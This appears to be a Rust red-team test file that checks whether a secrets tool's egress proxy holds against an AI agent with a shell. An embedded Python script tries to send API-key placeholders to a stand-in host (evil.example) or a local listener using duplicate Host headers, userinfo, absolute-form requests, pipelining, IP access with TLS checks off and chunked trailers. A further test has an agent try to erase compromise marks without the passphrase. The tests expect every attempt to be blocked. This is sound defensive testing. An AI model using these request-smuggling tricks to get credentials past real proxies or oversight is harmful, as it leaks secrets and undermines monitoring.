//! Red team, session 10b: the agent (same uid, a shell, the run's environment and proxy)
//! against the egress proxy's newest checks (`docs/egress.md`): the Host rule inside an
//! intercepted tunnel, the watch of a plain request's body (its trailers too), a bound host
//! reached by another name, pipelining and absolute-form inside a tunnel, and a placeholder of
//! another variable in the body of a request to a bound host; and `unset`/`env rm` as a way to
//! drop a compromise mark without the factor.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::Arc;
use std::time::Duration;

use super::egress::{Seen, bound_home, https_api};
use super::harness::*;

/// A value made at test time, shaped like an API key.
fn fresh_value() -> String {
    let mut b = [0u8; 24];
    getrandom::fill(&mut b).unwrap();
    format!("sk-proj-{}", hex::encode(b))
}

/// A plain HTTP "attacker" that records everything a connection sends (head, body, chunked
/// trailers) until it pauses for a second, then answers 200.
fn attacker_all() -> (u16, Seen) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let seen: Seen = Arc::default();
    let seen2 = seen.clone();
    std::thread::spawn(move || {
        for mut s in l.incoming().flatten() {
            let seen = seen2.clone();
            std::thread::spawn(move || {
                let _ = s.set_read_timeout(Some(Duration::from_secs(1)));
                let mut all = Vec::new();
                let mut buf = [0u8; 4096];
                while let Ok(n) = s.read(&mut buf) {
                    if n == 0 {
                        break;
                    }
                    all.extend_from_slice(&buf[..n]);
                }
                seen.lock()
                    .unwrap()
                    .push(String::from_utf8_lossy(&all).into_owned());
                let _ = s.write_all(
                    b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok",
                );
            });
        }
    });
    (port, seen)
}

fn policy(h: &Home, args: &[&str]) {
    let mut all = vec!["policy", "set", "demo"];
    all.extend_from_slice(args);
    all.push("--passphrase-stdin");
    let o = h.run_stdin(&all, &format!("{PASS}\n"));
    assert!(o.status.success(), "{}", text(&o.stderr));
}

/// The child's side: each attempt on its own connection through the run's proxy, TLS to the
/// run's leaf (or, for a bound host's address, the child's own TLS without checks), one line
/// printed per attempt (the status line or the error's kind: never a placeholder).
const CHILD: &str = r#"
import os, socket, ssl
p = os.environ["HTTPS_PROXY"].removeprefix("http://").split(":")
ph = os.environ["API_TOKEN"]
other = os.environ["OTHER_TOKEN"]
api = "localhost:@API@"
open("ph.txt", "w").write(ph)
open("other.txt", "w").write(other)

def proxy():
    return socket.create_connection((p[0], int(p[1])), timeout=20)

def tunnel(target):
    s = proxy()
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
    r = b""
    while b"\r\n\r\n" not in r:
        c = s.recv(1)
        if not c:
            break
        r += c
    return s

def tls(s, verify):
    if verify:
        ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    else:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["http/1.1"])
    return ctx.wrap_socket(s, server_hostname="localhost")

def read_all(t):
    out = b""
    try:
        while True:
            c = t.recv(4096)
            if not c:
                break
            out += c
    except Exception:
        pass
    return out

def attempt(name, target, req, verify=True):
    try:
        t = tls(tunnel(target), verify)
        t.sendall(req.encode())
        r = read_all(t)
        print(name, r.split(b"\r\n")[0].decode(errors="replace"), flush=True)
    except Exception as e:
        print(name, "error", type(e).__name__, flush=True)

auth = "Authorization: Bearer " + ph + "\r\n"
# 1. Two Host headers: the first names the tunnel's host, the second another origin behind
#    the same front.
attempt("dup", api, "GET /dup HTTP/1.1\r\nHost: " + api + "\r\nHost: evil.example\r\n" + auth + "Connection: close\r\n\r\n")
# 1b. One Host, with userinfo: its host part is the tunnel's, a front may read the start.
attempt("userinfo", api, "GET /userinfo HTTP/1.1\r\nHost: evil.example@" + api + "\r\n" + auth + "Connection: close\r\n\r\n")
# 2. Absolute-form naming another host, Host naming the tunnel's.
attempt("abs", api, "GET https://evil.example/abs HTTP/1.1\r\nHost: " + api + "\r\n" + auth + "Connection: close\r\n\r\n")
# 3. Pipelining: a good request, then one to another host in the same write.
attempt("pipe", api, "GET /pipe1 HTTP/1.1\r\nHost: " + api + "\r\n" + auth + "\r\nGET /pipe2 HTTP/1.1\r\nHost: evil.example\r\n" + auth + "Connection: close\r\n\r\n")
# 4. The bound host by its address: a plain tunnel, the child's own TLS.
attempt("ip", "127.0.0.1:@API@", "GET /ip HTTP/1.1\r\nHost: " + api + "\r\n" + auth + "Connection: close\r\n\r\n", verify=False)
# 5. Another variable's placeholder in the body of a request to API_TOKEN's host.
body = "k=" + other
attempt("body", api, "POST /body HTTP/1.1\r\nHost: " + api + "\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s" % (len(body), body))
# 6. A plain http:// request, chunked, with the placeholder in a trailer.
try:
    s = proxy()
    s.sendall(("POST http://127.0.0.1:@ATT@/trailer HTTP/1.1\r\nHost: 127.0.0.1:@ATT@\r\nTransfer-Encoding: chunked\r\nTrailer: X-K\r\n\r\n2\r\nhi\r\n0\r\nX-K: " + ph + "\r\n\r\n").encode())
    print("trailer", read_all(s).split(b"\r\n")[0].decode(errors="replace"), flush=True)
except Exception as e:
    print("trailer error", type(e).__name__, flush=True)
print("done", flush=True)
"#;

/// Every attempt of [`CHILD`] in one run; returns (home, value, API's heads, attacker's
/// streams, the child's stdout, the run's stderr, placeholder, other placeholder).
struct Outcome {
    h: Home,
    value: String,
    other_value: String,
    api_seen: Seen,
    att_seen: Seen,
    out: String,
    err: String,
    placeholder: String,
    other: String,
}

fn attack() -> Outcome {
    let value = fresh_value();
    let other_value = fresh_value();
    let (api, ca_pem, api_seen) = https_api();
    let (att, att_seen) = attacker_all();
    let h = bound_home(api, &ca_pem, &value);
    h.set("demo", "OTHER_TOKEN", &other_value);
    // OTHER_TOKEN is bound elsewhere (nothing listens there).
    policy(&h, &["bind", "OTHER_TOKEN", "localhost:1"]);
    let work = tempfile::tempdir_in("/tmp").unwrap();
    let script = CHILD
        .replace("@API@", &api.to_string())
        .replace("@ATT@", &att.to_string());
    std::fs::write(work.path().join("child.py"), script).unwrap();
    let o = h.run_approved(
        &[
            "run",
            "--env",
            "demo",
            "--only",
            "API_TOKEN,OTHER_TOKEN",
            "--cwd",
            work.path().to_str().unwrap(),
            "--",
            "python3",
            "child.py",
        ],
        Duration::from_secs(120),
    );
    let read = |f: &str| std::fs::read_to_string(work.path().join(f)).unwrap_or_default();
    let placeholder = read("ph.txt");
    let other = read("other.txt");
    assert_eq!(placeholder.len(), value.len(), "{}", text(&o.stderr));
    assert_eq!(other.len(), other_value.len());
    assert!(placeholder != value && other != other_value);
    Outcome {
        h,
        value,
        other_value,
        api_seen,
        att_seen,
        out: text(&o.stdout),
        err: text(&o.stderr),
        placeholder,
        other,
    }
}

/// The API's recorded heads whose request line is `METHOD PATH`.
fn heads_at(seen: &Seen, line_start: &str) -> Vec<String> {
    seen.lock()
        .unwrap()
        .iter()
        .filter(|h| h.starts_with(line_start))
        .cloned()
        .collect()
}

#[test]
fn the_egress_proxy_holds_against_a_second_host_another_name_pipelining_and_trailers() {
    let o = attack();
    assert!(o.out.contains("done"), "{}\n{}", o.out, o.err);
    let heads: Vec<String> = o.api_seen.lock().unwrap().clone();

    // (1)-(3) No request that names another host reaches the bound host, with or without the
    // value: the Host rule holds for a second Host, absolute-form and a pipelined request.
    for h in &heads {
        assert!(
            !h.to_ascii_lowercase().contains("evil.example"),
            "the bound host got a request naming another host (line: {:?})",
            h.lines().next()
        );
    }
    for name in ["dup", "userinfo", "abs"] {
        assert!(
            o.out.contains(&format!("{name} HTTP/1.1 403")),
            "{name}: {}",
            o.out
        );
    }
    assert!(heads_at(&o.api_seen, "GET /abs").is_empty());
    assert!(heads_at(&o.api_seen, "GET /pipe2").is_empty());

    // (4) The bound host reached by its address: a plain tunnel; it gets the placeholder, never
    // the value.
    let ip = heads_at(&o.api_seen, "GET /ip");
    assert_eq!(ip.len(), 1, "{}", o.out);
    assert!(contains(ip[0].as_bytes(), &o.placeholder));
    for enc in encodings(&o.value) {
        assert!(
            !contains(ip[0].as_bytes(), &enc),
            "the value went by address"
        );
    }

    // (6) A placeholder in a plain request's chunked trailers: not passed to the attacker, and
    // reported.
    for s in o.att_seen.lock().unwrap().iter() {
        assert!(
            !contains(s.as_bytes(), &o.placeholder),
            "the placeholder reached the attacker in a trailer"
        );
    }
    let audit = o.h.audit_text();
    assert!(
        audit.contains("sent in a plain HTTP body"),
        "the trailer was not reported"
    );
    assert!(!contains(audit.as_bytes(), &o.placeholder));

    // Nowhere: no form of either value in the attacker's streams, the child's output, the
    // home's files.
    for v in [&o.value, &o.other_value] {
        for enc in encodings(v) {
            for s in o.att_seen.lock().unwrap().iter() {
                assert!(!contains(s.as_bytes(), &enc));
            }
            assert!(!contains(o.out.as_bytes(), &enc));
            assert!(!contains(&o.h.all_plain_files(), &enc));
        }
    }
}

#[test]
fn another_variables_placeholder_in_a_bound_requests_body_is_blocked_and_reported() {
    let o = attack();
    assert!(o.out.contains("done"), "{}\n{}", o.out, o.err);
    let body = heads_at(&o.api_seen, "POST /body");
    let reached = body.iter().any(|h| contains(h.as_bytes(), &o.other));
    let audit = o.h.audit_text();
    let reported = audit.contains("egress_blocked") && audit.contains("OTHER_TOKEN");
    // The value itself never goes: only OTHER_TOKEN's placeholder could.
    for h in &body {
        for enc in encodings(&o.other_value) {
            assert!(!contains(h.as_bytes(), &enc));
        }
    }
    assert!(
        !reached && reported,
        "reached the bound host: {reached}; reported: {reported}"
    );
}

/// The agent, without the factor, tries to erase a compromise mark (the evidence a sweep left,
/// and what a later `sweep --scrub-transcripts` rewrites by) with `unset` and `env rm`: both
/// are refused and the mark stays.
#[test]
fn an_agent_cannot_drop_compromise_marks_without_the_factor() {
    let h = Home::new();
    let v = fresh_value();
    h.set("demo", "API_KEY", &v);
    let dir = h.path().join(".claude/projects/-w-mark");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("m.jsonl"), format!("{{\"content\":\"{v}\"}}\n")).unwrap();
    let empty = h.path().join("empty");
    std::fs::create_dir_all(&empty).unwrap();
    let o = h.run_stdin(
        &[
            "sweep",
            "--contain",
            "--json",
            empty.to_str().unwrap(),
            "--passphrase-stdin",
        ],
        &format!("{PASS}\n"),
    );
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
    let marks = || {
        let vault = keyveil_vault::Vault::open(&h.path().join("vault.kv"), PASS.as_bytes())
            .expect("the vault opens with the passphrase");
        vault.data().compromised.keys().cloned().collect::<Vec<_>>()
    };
    assert_eq!(marks(), ["demo/API_KEY"]);
    // No factor: stdin empty (no terminal), then a wrong passphrase.
    for args in [
        &["unset", "demo", "API_KEY"][..],
        &["env", "rm", "demo"][..],
    ] {
        let o = h.run_stdin(args, "");
        assert!(
            !o.status.success(),
            "{args:?} went through without the factor"
        );
        let mut wrong = args.to_vec();
        wrong.push("--passphrase-stdin");
        let o = h.run_stdin(&wrong, "not-the-passphrase\n");
        assert!(
            !o.status.success(),
            "{args:?} went through with a wrong passphrase"
        );
        assert_eq!(marks(), ["demo/API_KEY"], "{args:?} dropped the mark");
    }
}
